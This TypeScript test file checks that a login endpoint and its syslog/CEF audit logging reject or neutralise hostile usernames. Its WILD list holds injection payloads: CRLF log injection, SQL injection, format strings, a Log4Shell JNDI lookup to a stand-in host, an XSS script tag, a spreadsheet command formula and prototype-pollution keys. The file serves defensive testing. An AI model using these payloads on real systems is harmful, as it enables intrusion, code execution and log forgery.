import assert from 'node:assert/strict'
import { test } from 'node:test'
import { cefMessage, syslogMessage } from '#audit/syslog.ts'
import { apiWorld } from '../api-world.ts'

// Somebody signs in under names that are no names: with line breaks, control characters, four kilobytes, marks that turn the direction
// of a text, prototypes of objects. They hope to break the program, to write a second line into a log, or to be told apart.

const WILD = [
  'kim\r\n{"ev":"session.created","actor":"root"}',
  'kim\u0000',
  'x'.repeat(4096),
  '\u202Emik',
  '😀'.repeat(50),
  '__proto__',
  'constructor',
  "' OR 1=1 --",
  '%s%n%x',
  '${jndi:ldap://evil.test/a}',
  '<script>alert(1)</script>',
  '\uD800',
  '=cmd|calc',
  '\u001B[2J',
]

test('[IV-04] wild names are answered like any stranger’s, and stay one line of the log each', async (t) => {
  const world = await apiWorld()
  t.after(world.close)
  const stranger = await world.login('nobody', { password: 'guess' })
  for (const username of WILD) {
    const answer = await world.api('POST /login', { body: { username, password: 'guess' } })
    assert.ok([400, 401].includes(answer.status), `${JSON.stringify(username.slice(0, 30))}: ${answer.status}`)
    if (answer.status === 401) assert.equal(answer.body.code, stranger.body.code)
    assert.ok(!answer.text.includes('evil.test'))
  }
  const failed = (await world.trail()).filter(({ ev }) => ev === 'auth.password.fail')
  assert.ok(failed.length > 1)
  for (const row of failed) {
    for (const line of [syslogMessage('acme', 'host', row), cefMessage('acme', 'host', row), JSON.stringify(row)])
      assert.ok(![...line].some((letter) => letter < ' '), line)
  }
  assert.deepEqual(world.reports, [])
  assert.equal(({} as Record<string, unknown>)['polluted'], undefined)
})

test('[IV-04] nobody is made under such a name, and the refusal is plain', async (t) => {
  const world = await apiWorld()
  t.after(world.close)
  for (const username of WILD.filter((name) => /[\p{C}\s]/u.test(name) || name.length > 140)) {
    const made = await world.api('POST /users', { token: world.keys.admin, body: { username } })
    assert.equal(made.status, 400, JSON.stringify(username.slice(0, 30)))
  }
  assert.deepEqual(world.reports, [])
})
